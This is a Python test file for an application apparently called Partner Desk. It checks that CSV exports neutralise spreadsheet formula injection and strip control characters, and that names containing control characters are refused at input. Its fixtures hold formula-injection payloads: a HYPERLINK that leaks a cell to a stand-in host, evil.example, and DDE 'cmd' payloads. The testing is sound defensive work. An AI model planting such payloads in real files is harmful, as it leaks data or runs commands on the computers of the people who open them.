"""Every CSV Partner Desk writes is safe to open in a spreadsheet; names with control characters are refused.

A customer named `=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")` or a product titled
`+cmd|' /C calc'!A0` must come out of `partnerdesk billing export` and the price-list export as text
(a leading `'`, OWASP's rule), never as a formula; BEL and ESC are left out of every cell; amounts,
credits included, stay numbers. At input, a name holding a control character is a 400 naming its field.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update
from typer.testing import CliRunner

from partnerdesk.accounts.models import Partner, Role
from partnerdesk.catalog import pricelist
from partnerdesk.catalog.errors import InvalidPriceList
from partnerdesk.catalog.models import Product, Sku
from partnerdesk.cli import app as cli_app
from partnerdesk.core.csv_safe import FORMULA_TRIGGERS
from partnerdesk.customers.models import Customer
from tests.billing.test_invoices import _close_november, _eur_invoice
from tests.catalog.test_pricelist import GOOD_ROWS, HEADER
from tests.orders.factories import software_line
from tests.support.actors import customer_body

pytestmark = pytest.mark.both_engines

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
DASH = "-2+3+cmd|' /C calc'!A0"
CONTROL = "\x07\x1b\x7f\x9b"


@pytest.fixture
def cli(settings):
    runner = CliRunner()
    env = {"PARTNERDESK_DATABASE_URL": settings.database_url, "PARTNERDESK_DATA_DIR": str(settings.data_dir),
           "PARTNERDESK_SECRET_KEY": settings.secret_key, "COLUMNS": "200"}

    def invoke(*args: str):
        return runner.invoke(cli_app, list(args), env=env)

    return invoke


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula_and_no_control_character(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (cell, row)
            assert not any(char in cell for char in CONTROL), (cell, row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# partnerdesk billing export


def test_the_billing_export_writes_formula_names_as_text_and_credits_as_numbers(shop, actors, cli, clock, desk):
    customer = shop.customer("FR")
    # The name a customer has (created before input was checked, or in another tool): formula and BEL/ESC.
    with desk.database.session() as db:
        db.execute(update(Customer).where(Customer.id == customer)
                   .values(company_name=HYPERLINK + CONTROL))
    order = shop.buy(customer, software_line(quantity=2))["orders"][0]
    clock.advance(timedelta(days=10))  # December: the cancellation is a credit of that month
    cancelled = actors(Role.admin_agent).patch(f"/v1/customers/{customer}/orders/{order['id']}",
                                              json={"status": "cancelled"})
    assert cancelled.status_code == 200, cancelled.text

    november = cli("billing", "export", "--period", "2026-11")
    december = cli("billing", "export", "--period", "2026-12")
    assert november.exit_code == december.exit_code == 0, november.output + december.output
    [charge] = list(csv.DictReader(io.StringIO(november.stdout)))
    [credit] = list(csv.DictReader(io.StringIO(december.stdout)))
    assert charge["CustomerName"] == credit["CustomerName"] == "'" + HYPERLINK
    assert (charge["Quantity"], charge["Subtotal"]) == ("2", "2469.12")
    # A credit's negative amount is a number, not text: the spreadsheet still adds the column up.
    assert (credit["Quantity"], credit["Subtotal"]) == ("-2", "-2469.12")
    for export in (november, december):
        _assert_no_formula_and_no_control_character(_cells(export.stdout))


def test_the_invoice_reconciliation_download_carries_no_formula_and_no_control_character(shop, actors, clock, desk):
    customer = shop.customer("FR")
    with desk.database.session() as db:
        db.execute(update(Customer).where(Customer.id == customer).values(company_name=CONTROL + SUM))
        db.execute(update(Product).values(title=CMD + CONTROL))
        db.execute(update(Sku).values(title=DASH))
    shop.buy(customer, software_line())
    _close_november(desk, clock)
    reader = actors(Role.billing_admin)
    response = reader.get(f"/v1/invoices/{_eur_invoice(reader)['id']}/documents/reconciliation")
    assert response.status_code == 200, response.text
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["CustomerName"], row["ProductName"], row["SkuName"]) == ("'" + SUM, "'" + CMD, "'" + DASH)
    _assert_no_formula_and_no_control_character(_cells(response.text))


# The price list: `partnerdesk catalog export` and the import that reads it back


def _price_row(number: str, product_title: str, sku_title: str) -> str:
    fields = next(csv.reader(io.StringIO(GOOD_ROWS[0])))
    fields[0], fields[3] = product_title, sku_title
    fields[2], fields[19] = "0001", number
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(fields)
    return out.getvalue()


def test_the_price_list_export_writes_formula_titles_as_text_and_reads_them_back(cli, tmp_path, desk):
    source = tmp_path / "prices.csv"
    source.write_text("\n".join([HEADER, _price_row("0001", CMD, SUM)]) + "\n", encoding="utf-8")
    imported = cli("catalog", "import", str(source))
    assert imported.exit_code == 0, imported.output

    exported = cli("catalog", "export")
    assert exported.exit_code == 0, exported.output
    header, row = _cells(exported.stdout)
    cells = dict(zip(header, row, strict=True))
    assert (cells["ProductTitle"], cells["SkuTitle"]) == ("'" + CMD, "'" + SUM)
    assert (cells["UnitPrice"], cells["ERP Price"]) == ("994.17", "1100.00")
    _assert_no_formula_and_no_control_character([header, row])

    # The file the export wrote imports back to the same titles, and exports byte for byte the same.
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    assert cli("catalog", "import", str(again)).exit_code == 0
    with desk.database.session(write=False) as db:
        assert db.scalar(select(Product.title)) == CMD and db.scalar(select(Sku.title)) == SUM
    assert cli("catalog", "export").stdout == exported.stdout


def test_the_price_list_export_strips_control_characters_already_stored(desk):
    with desk.database.session() as db:
        pricelist.import_price_list(db, io.StringIO("\n".join([HEADER, _price_row("0001", "Office", DASH)]) + "\n"),
                                    now=desk.clock.now(), source="t.csv")
        db.execute(update(Product).values(title="Off\x07ice\x1b"))
    out = io.StringIO(newline="")
    with desk.database.session(write=False) as db:
        pricelist.export_price_list(db, out)
    header, row = _cells(out.getvalue())
    cells = dict(zip(header, row, strict=True))
    assert (cells["ProductTitle"], cells["SkuTitle"]) == ("Office", "'" + DASH)


@pytest.mark.parametrize(("column", "value"), [
    ("ProductTitle", "Windows\x07 Server"),
    ("SkuTitle", "\x1b[31mStandard"),
    ("Publisher", "Microsoft\x9b"),
    ("UnitOfMeasure", "16\x7f cores"),
    ("SkuTitle", "Standard\nEdition"),
    ("SkuDescription", "16 cores\x1b"),
])
def test_a_price_list_row_with_a_control_character_is_refused_by_line(desk, column, value):
    fields = next(csv.reader(io.StringIO(GOOD_ROWS[0])))
    fields[pricelist.COLUMNS.index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([pricelist.COLUMNS, next(csv.reader(io.StringIO(GOOD_ROWS[1]))),
                                                    fields])
    with pytest.raises(InvalidPriceList) as raised, desk.database.session() as db:
        pricelist.import_price_list(db, io.StringIO(out.getvalue(), newline=""), now=desk.clock.now(),
                                    source="t.csv")
    [reason] = raised.value.data
    last_line = 3 + value.count("\n")  # a quoted cell with a line break ends its row one line further
    assert reason.startswith(f"line {last_line}: ") and f"{column} must not contain" in reason, reason
    assert raised.value.status_code == 400
    with desk.database.session(write=False) as db:
        assert db.scalar(select(func.count()).select_from(Product)) == 0


def test_a_description_may_keep_its_line_breaks(desk):
    fields = next(csv.reader(io.StringIO(GOOD_ROWS[0])))
    fields[pricelist.COLUMNS.index("SkuDescription")] = "16 cores\n\twith downgrade rights"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([pricelist.COLUMNS, fields])
    with desk.database.session() as db:
        report = pricelist.import_price_list(db, io.StringIO(out.getvalue(), newline=""), now=desk.clock.now(),
                                             source="t.csv")
    assert report.rows == 1


# The operator's catalog API


PRODUCT = {"title": "Office", "productType": {"id": "Software", "subType": {"id": "Perpetual"}}}


@pytest.mark.parametrize(("body", "field"), [
    ({**PRODUCT, "title": "Office\x07"}, "title"),
    ({**PRODUCT, "title": "Office\r\n2024"}, "title"),
    ({**PRODUCT, "publisher": "\x1bMicrosoft"}, "publisher"),
    ({**PRODUCT, "description": "Licences\x1b[2J"}, "description"),
])
def test_the_catalog_api_refuses_names_with_control_characters(actors, desk, body, field):
    response = actors(Role.operator).post("/v1/products", json=body)
    assert response.status_code == 400, response.text
    assert response.json()["data"] == [field]
    assert response.json()["description"].startswith(f"{field} must not contain")
    with desk.database.session(write=False) as db:
        assert db.scalar(select(func.count()).select_from(Product)) == 0


def test_the_catalog_api_takes_formula_titles_and_multi_line_descriptions(actors):
    """Input keeps what people type (a title may start with =); only exports neutralise it."""
    response = actors(Role.operator).post("/v1/products", json={**PRODUCT, "title": HYPERLINK,
                                                                "description": "Line one\nLine two"})
    assert response.status_code == 201, response.text
    assert response.json()["title"] == HYPERLINK


def test_the_catalog_api_refuses_a_sku_title_with_a_control_character(actors):
    operator = actors(Role.operator)
    product = operator.post("/v1/products", json=PRODUCT).json()["id"]
    response = operator.post(f"/v1/products/{product}/skus",
                             json={"title": "Standard\x07", "supportedBillingCycles": ["one_time"]})
    assert response.status_code == 400 and response.json()["data"] == ["title"], response.text


# Customers


def _customer_with(**changes) -> dict:
    body = customer_body()
    for path, value in changes.items():
        target = body
        *parents, name = path.split(".")
        for parent in parents:
            target = target[parent]
        target[name] = value
    return body


@pytest.mark.parametrize(("path", "value", "field"), [
    ("companyProfile.companyName", "Contoso\x07", "companyProfile.companyName"),
    ("billingProfile.companyName", "\x1b[31mContoso", "billingProfile.companyName"),
    ("billingProfile.firstName", "Ann\te", "billingProfile.firstName"),
    ("billingProfile.lastName", "Dupont\x9b", "billingProfile.lastName"),
    ("billingProfile.defaultAddress.city", "Lyon\x00", None),  # NUL: refused as before, by the API shapes
    ("billingProfile.defaultAddress.addressLine1", "1 place\nBellecour", "billingProfile.defaultAddress.addressLine1"),
])
def test_customer_names_with_control_characters_are_refused(actors, desk, path, value, field):
    response = actors(Role.sales_agent).post("/v1/customers", json=_customer_with(**{path: value}))
    assert response.status_code == 400, response.text
    if field is not None:
        assert response.json()["data"] == [field]
        assert response.json()["description"].startswith(f"{field} must not contain")
    with desk.database.session(write=False) as db:
        assert db.scalar(select(func.count()).select_from(Customer)) == 0


def test_a_customer_named_like_a_formula_is_kept_as_typed(actors):
    response = actors(Role.sales_agent).post("/v1/customers",
                                             json=_customer_with(**{"companyProfile.companyName": HYPERLINK}))
    assert response.status_code == 201, response.text
    assert response.json()["companyProfile"]["companyName"] == HYPERLINK


def test_a_partner_name_with_a_control_character_is_refused(cli, desk):
    refused = cli("agents", "add", "ada@evil.example", "--role", "sales_agent", "--partner", "Evil\x07 Reseller",
                  "--name", "Ada")
    assert refused.exit_code != 0
    assert "partner must not contain" in refused.output
    with desk.database.session(write=False) as db:
        assert db.scalar(select(func.count()).select_from(Partner).where(Partner.name.like("Evil%"))) == 0

